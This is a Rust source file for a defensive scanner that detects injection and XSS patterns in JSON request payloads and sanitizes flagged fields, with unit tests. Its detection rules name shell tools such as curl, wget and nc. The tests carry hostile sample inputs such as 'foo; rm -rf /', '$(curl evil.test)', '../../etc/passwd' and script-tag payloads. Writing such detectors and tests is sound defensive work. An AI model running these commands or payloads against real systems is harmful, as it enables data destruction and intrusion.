//! Security scanner — regex threat detection over request payloads.
//!
//! A fixed catalog of patterns (SQL injection, XSS, path traversal, command
//! injection, NoSQL operators, LDAP metacharacters) runs against every
//! string leaf of a JSON payload. Inputs longer than the configured maximum
//! are truncated before scanning so regex work stays bounded.
//!
//! Policy lives with the caller: production blocks on high/critical
//! matches; elsewhere matches are logged and optionally sanitized
//! (critical matches replaced with `[BLOCKED]`, high matches HTML-entity
//! encoded). Replacement is literal string substitution — matched text is
//! never recompiled as a regex.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;
use serde_json::Value;

/// Threat family a pattern belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatKind {
    /// SQL keywords, tautologies, comments, UNION probes.
    SqlInjection,
    /// Script/iframe tags, event handlers, `javascript:` URLs, eval.
    Xss,
    /// `../` sequences, raw or URL-encoded.
    PathTraversal,
    /// Shell metacharacters chained with known binaries.
    CommandInjection,
    /// `$`-prefixed query operators.
    NoSqlInjection,
    /// LDAP filter metacharacter sequences.
    LdapInjection,
}

impl fmt::Display for ThreatKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Self::SqlInjection => "sql_injection",
            Self::Xss => "xss",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
            Self::NoSqlInjection => "nosql_injection",
            Self::LdapInjection => "ldap_injection",
        };
        f.write_str(s)
    }
}

/// Match severity, ordered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Informational.
    Low,
    /// Suspicious but often benign.
    Medium,
    /// Likely attack; blocked in production.
    High,
    /// Unambiguous attack; blocked in production.
    Critical,
}

/// One catalog entry.
struct ThreatPattern {
    kind: ThreatKind,
    severity: Severity,
    label: &'static str,
    regex: Regex,
    confidence: f64,
}

fn pattern(
    kind: ThreatKind,
    severity: Severity,
    label: &'static str,
    re: &str,
    confidence: f64,
) -> ThreatPattern {
    ThreatPattern {
        kind,
        severity,
        label,
        regex: Regex::new(re).expect("threat catalog pattern must compile"),
        confidence,
    }
}

/// The fixed threat catalog.
static CATALOG: LazyLock<Vec<ThreatPattern>> = LazyLock::new(|| {
    vec![
        // SQL injection
        pattern(
            ThreatKind::SqlInjection,
            Severity::Critical,
            "sql-tautology",
            r#"(?i)(['"]\s*or\s+['"]?\d+['"]?\s*=\s*['"]?\d+|\bor\s+1\s*=\s*1\b)"#,
            0.9,
        ),
        pattern(
            ThreatKind::SqlInjection,
            Severity::High,
            "sql-union-select",
            r"(?i)\bunion\s+(all\s+)?select\b",
            0.9,
        ),
        pattern(
            ThreatKind::SqlInjection,
            Severity::High,
            "sql-statement",
            r"(?i)\b(select\s+[\w\*,\s]+\s+from|insert\s+into|delete\s+from|drop\s+(table|database)|update\s+\w+\s+set)\b",
            0.8,
        ),
        pattern(
            ThreatKind::SqlInjection,
            Severity::Medium,
            "sql-comment",
            r"(--[^\r\n]*$|/\*|\*/|;\s*--)",
            0.5,
        ),
        // XSS
        pattern(
            ThreatKind::Xss,
            Severity::Critical,
            "xss-script-tag",
            r"(?i)<\s*script\b",
            0.95,
        ),
        pattern(
            ThreatKind::Xss,
            Severity::High,
            "xss-iframe",
            r"(?i)<\s*iframe\b",
            0.85,
        ),
        pattern(
            ThreatKind::Xss,
            Severity::High,
            "xss-event-handler",
            r"(?i)\bon(load|error|click|mouseover|focus|blur|submit)\s*=",
            0.75,
        ),
        pattern(
            ThreatKind::Xss,
            Severity::High,
            "xss-javascript-url",
            r"(?i)javascript\s*:",
            0.8,
        ),
        pattern(
            ThreatKind::Xss,
            Severity::High,
            "xss-eval",
            r"(?i)\beval\s*\(",
            0.7,
        ),
        pattern(
            ThreatKind::Xss,
            Severity::Medium,
            "xss-css-expression",
            r"(?i)\bexpression\s*\(",
            0.6,
        ),
        // Path traversal
        pattern(
            ThreatKind::PathTraversal,
            Severity::High,
            "path-dotdot",
            r"\.\./|\.\.\\",
            0.85,
        ),
        pattern(
            ThreatKind::PathTraversal,
            Severity::High,
            "path-dotdot-encoded",
            r"(?i)%2e%2e(%2f|%5c|/|\\)",
            0.85,
        ),
        // Command injection
        pattern(
            ThreatKind::CommandInjection,
            Severity::Critical,
            "cmd-chained-binary",
            r"(?i)[;&|]\s*(cat|ls|rm|wget|curl|bash|sh|nc|python|perl)\b",
            0.85,
        ),
        pattern(
            ThreatKind::CommandInjection,
            Severity::High,
            "cmd-substitution",
            r"\$\([^)]*\)|`[^`]*`",
            0.7,
        ),
        // NoSQL injection
        pattern(
            ThreatKind::NoSqlInjection,
            Severity::High,
            "nosql-operator",
            r"(?i)\$(where|ne|gt|gte|lt|lte|regex|in|nin|or|and|expr)\b",
            0.8,
        ),
        // LDAP injection
        pattern(
            ThreatKind::LdapInjection,
            Severity::Medium,
            "ldap-filter-meta",
            r"\(\s*[|&!]\s*\(|\*\)\s*\(|\)\s*\(\s*\|",
            0.6,
        ),
    ]
});

/// A single scanner hit.
#[derive(Debug, Clone, Serialize)]
pub struct ThreatMatch {
    /// Threat family.
    #[serde(rename = "type")]
    pub kind: ThreatKind,
    /// Severity of the matched pattern.
    pub severity: Severity,
    /// Catalog label of the pattern.
    pub pattern: String,
    /// The matched text.
    pub matched: String,
    /// Dotted path of the offending field.
    pub field: String,
    /// Pattern confidence in `[0, 1]`.
    pub confidence: f64,
}

/// Scan every string leaf of `value`, truncating inputs to `max_len` first.
#[must_use]
pub fn scan_value(value: &Value, max_len: usize) -> Vec<ThreatMatch> {
    let mut matches = Vec::new();
    walk(value, "", max_len, &mut matches);
    matches
}

/// Path of an object member. Shared with the sanitizer so a match's
/// `field` always lines up with the path the sanitizer rebuilds.
fn member_path(path: &str, key: &str) -> String {
    if path.is_empty() {
        key.to_string()
    } else {
        format!("{path}.{key}")
    }
}

/// Path of an array element.
fn element_path(path: &str, index: usize) -> String {
    if path.is_empty() {
        format!("[{index}]")
    } else {
        format!("{path}[{index}]")
    }
}

fn walk(value: &Value, path: &str, max_len: usize, out: &mut Vec<ThreatMatch>) {
    match value {
        Value::String(s) => scan_string(s, path, max_len, out),
        Value::Array(arr) => {
            for (i, item) in arr.iter().enumerate() {
                walk(item, &element_path(path, i), max_len, out);
            }
        }
        Value::Object(map) => {
            for (key, item) in map {
                let child = member_path(path, key);
                // Keys are attack surface too (NoSQL operators arrive as keys).
                scan_string(key, &child, max_len, out);
                walk(item, &child, max_len, out);
            }
        }
        _ => {}
    }
}

fn scan_string(s: &str, path: &str, max_len: usize, out: &mut Vec<ThreatMatch>) {
    let truncated = truncate_chars(s, max_len);
    for p in CATALOG.iter() {
        if let Some(m) = p.regex.find(truncated) {
            out.push(ThreatMatch {
                kind: p.kind,
                severity: p.severity,
                pattern: p.label.to_string(),
                matched: m.as_str().to_string(),
                field: if path.is_empty() {
                    "$".to_string()
                } else {
                    path.to_string()
                },
                confidence: p.confidence,
            });
        }
    }
}

/// Truncate on a char boundary so regex scanning stays bounded.
fn truncate_chars(s: &str, max_len: usize) -> &str {
    match s.char_indices().nth(max_len) {
        Some((idx, _)) => &s[..idx],
        None => s,
    }
}

/// The highest severity among `matches`, if any.
#[must_use]
pub fn max_severity(matches: &[ThreatMatch]) -> Option<Severity> {
    matches.iter().map(|m| m.severity).max()
}

/// Sanitize `value` given prior scan results.
///
/// Rewrites happen only in the field a match was recorded against — the
/// recursion rebuilds the same paths [`walk`] used, so a threat flagged in
/// one field never mutates siblings that merely contain similar text.
/// Critical matches are replaced with `[BLOCKED]`; high matches are
/// HTML-entity encoded. Replacement is literal substring substitution.
#[must_use]
pub fn sanitize_value(value: &Value, matches: &[ThreatMatch]) -> Value {
    sanitize_at(value, "", matches)
}

fn sanitize_at(value: &Value, path: &str, matches: &[ThreatMatch]) -> Value {
    match value {
        Value::String(s) => {
            let field = if path.is_empty() { "$" } else { path };
            let mut cleaned = s.clone();
            for m in matches.iter().filter(|m| m.field == field) {
                match m.severity {
                    Severity::Critical => {
                        cleaned = cleaned.replace(&m.matched, "[BLOCKED]");
                    }
                    Severity::High => {
                        let encoded = html_entity_encode(&m.matched);
                        cleaned = cleaned.replace(&m.matched, &encoded);
                    }
                    _ => {}
                }
            }
            Value::String(cleaned)
        }
        Value::Array(arr) => Value::Array(
            arr.iter()
                .enumerate()
                .map(|(i, v)| sanitize_at(v, &element_path(path, i), matches))
                .collect(),
        ),
        Value::Object(map) => {
            let mut out = serde_json::Map::with_capacity(map.len());
            for (k, v) in map {
                out.insert(k.clone(), sanitize_at(v, &member_path(path, k), matches));
            }
            Value::Object(out)
        }
        other => other.clone(),
    }
}

fn html_entity_encode(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#x27;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const MAX: usize = 10_000;

    #[test]
    fn detects_sql_tautology_as_critical() {
        let matches = scan_value(&json!({"q": "' OR 1=1"}), MAX);
        assert!(matches
            .iter()
            .any(|m| m.kind == ThreatKind::SqlInjection && m.severity == Severity::Critical));
    }

    #[test]
    fn detects_union_select() {
        let matches = scan_value(&json!("1 UNION SELECT password FROM users"), MAX);
        assert!(matches.iter().any(|m| m.pattern == "sql-union-select"));
    }

    #[test]
    fn detects_script_tag_as_critical() {
        let matches = scan_value(&json!({"comment": "<script>alert(1)</script>"}), MAX);
        let hit = matches
            .iter()
            .find(|m| m.kind == ThreatKind::Xss)
            .expect("script tag must match");
        assert_eq!(hit.severity, Severity::Critical);
        assert_eq!(hit.field, "comment");
    }

    #[test]
    fn detects_event_handler_and_javascript_url() {
        let matches = scan_value(&json!("<img onerror=alert(1) src=x>"), MAX);
        assert!(matches.iter().any(|m| m.pattern == "xss-event-handler"));

        let matches = scan_value(&json!("javascript:void(0)"), MAX);
        assert!(matches.iter().any(|m| m.pattern == "xss-javascript-url"));
    }

    #[test]
    fn detects_path_traversal_raw_and_encoded() {
        assert!(!scan_value(&json!("../../etc/passwd"), MAX).is_empty());
        assert!(!scan_value(&json!("%2e%2e%2fetc%2fpasswd"), MAX).is_empty());
    }

    #[test]
    fn detects_command_injection() {
        let matches = scan_value(&json!("foo; rm -rf /"), MAX);
        assert!(matches
            .iter()
            .any(|m| m.kind == ThreatKind::CommandInjection && m.severity == Severity::Critical));

        let matches = scan_value(&json!("$(curl evil.test)"), MAX);
        assert!(matches.iter().any(|m| m.pattern == "cmd-substitution"));
    }

    #[test]
    fn detects_nosql_operator_in_keys() {
        // Operators arrive as object keys, not values.
        let matches = scan_value(&json!({"username": {"$ne": null}}), MAX);
        assert!(matches.iter().any(|m| m.kind == ThreatKind::NoSqlInjection));
    }

    #[test]
    fn clean_input_produces_no_matches() {
        let matches = scan_value(
            &json!({
                "name": "Alice Example",
                "note": "ordinary text with numbers 12345",
                "nested": {"list": ["a", "b"]}
            }),
            MAX,
        );
        assert!(matches.is_empty(), "unexpected matches: {matches:?}");
    }

    #[test]
    fn field_paths_are_dotted_and_indexed() {
        let matches = scan_value(&json!({"items": [{"q": "<script>x"}]}), MAX);
        let hit = matches.iter().find(|m| m.kind == ThreatKind::Xss).unwrap();
        assert_eq!(hit.field, "items[0].q");
    }

    #[test]
    fn input_at_max_length_is_scanned() {
        // Boundary: a payload exactly at the limit is still scanned.
        let payload = format!("{}<script>", "a".repeat(10_000 - 8));
        assert_eq!(payload.chars().count(), 10_000);
        let matches = scan_value(&json!(payload), 10_000);
        assert!(matches.iter().any(|m| m.kind == ThreatKind::Xss));
    }

    #[test]
    fn longer_input_is_truncated_before_scanning() {
        // The threat sits beyond the limit, so it must not be seen.
        let payload = format!("{}<script>", "a".repeat(10_000));
        let matches = scan_value(&json!(payload), 10_000);
        assert!(matches.is_empty());
    }

    #[test]
    fn max_severity_orders_correctly() {
        let matches = scan_value(&json!({"a": "/* comment */", "b": "<script>"}), MAX);
        assert_eq!(max_severity(&matches), Some(Severity::Critical));
        assert_eq!(max_severity(&[]), None);
    }

    #[test]
    fn sanitize_replaces_critical_with_blocked() {
        let value = json!({"comment": "hello <script>alert(1)</script>"});
        let matches = scan_value(&value, MAX);
        let cleaned = sanitize_value(&value, &matches);
        let text = cleaned["comment"].as_str().unwrap();
        assert!(text.contains("[BLOCKED]"), "got: {text}");
        assert!(!text.contains("<script"));
    }

    #[test]
    fn sanitize_entity_encodes_high_matches() {
        let value = json!({"q": "<iframe src=x>"});
        let matches = scan_value(&value, MAX);
        let cleaned = sanitize_value(&value, &matches);
        let text = cleaned["q"].as_str().unwrap();
        assert!(text.contains("&lt;"), "got: {text}");
    }

    #[test]
    fn sanitize_handles_regex_metacharacters_literally() {
        // Matched text containing regex metacharacters must be replaced as a
        // literal string, not recompiled.
        let value = json!({"q": r#"$(rm -rf "/*")"#});
        let matches = scan_value(&value, MAX);
        assert!(matches.iter().any(|m| m.pattern == "cmd-substitution"));
        let cleaned = sanitize_value(&value, &matches);
        let text = cleaned["q"].as_str().unwrap();
        // The quotes inside the matched text are entity-encoded in place.
        assert!(text.contains("&quot;"), "got: {text}");
        assert!(!text.contains('"'));
    }

    #[test]
    fn sanitize_only_rewrites_the_flagged_field() {
        // `<iframe` matches in `embed`; `note` contains the same substring
        // inside "<iframes>", where the trailing word character defeats the
        // pattern's boundary, so `note` is never flagged.
        let value = json!({
            "embed": "<iframe src=//evil.test>",
            "note": "the <iframes> element is not a thing"
        });
        let matches = scan_value(&value, MAX);
        assert!(matches.iter().any(|m| m.field == "embed"));
        assert!(!matches.iter().any(|m| m.field == "note"));

        let cleaned = sanitize_value(&value, &matches);
        assert!(cleaned["embed"].as_str().unwrap().starts_with("&lt;iframe"));
        // The unflagged sibling must come through byte-identical.
        assert_eq!(cleaned["note"], value["note"]);
    }

    #[test]
    fn sanitize_respects_paths_in_nested_structures() {
        // One array element carries a real script tag; its sibling merely
        // contains the matched substring inside a longer word.
        let value = json!({
            "comments": [
                {"text": "hi <script>steal()</script>"},
                {"text": "the <scripted> sequence aired yesterday"}
            ]
        });
        let matches = scan_value(&value, MAX);
        let flagged: Vec<&str> = matches
            .iter()
            .filter(|m| m.kind == ThreatKind::Xss)
            .map(|m| m.field.as_str())
            .collect();
        assert_eq!(flagged, vec!["comments[0].text"]);

        let cleaned = sanitize_value(&value, &matches);
        assert!(cleaned["comments"][0]["text"]
            .as_str()
            .unwrap()
            .contains("[BLOCKED]"));
        assert_eq!(cleaned["comments"][1]["text"], value["comments"][1]["text"]);
    }

    #[test]
    fn serialized_match_uses_type_key() {
        let matches = scan_value(&json!("<script>"), MAX);
        let json = serde_json::to_value(&matches[0]).unwrap();
        assert_eq!(json["type"], "xss");
        assert_eq!(json["severity"], "critical");
    }
}
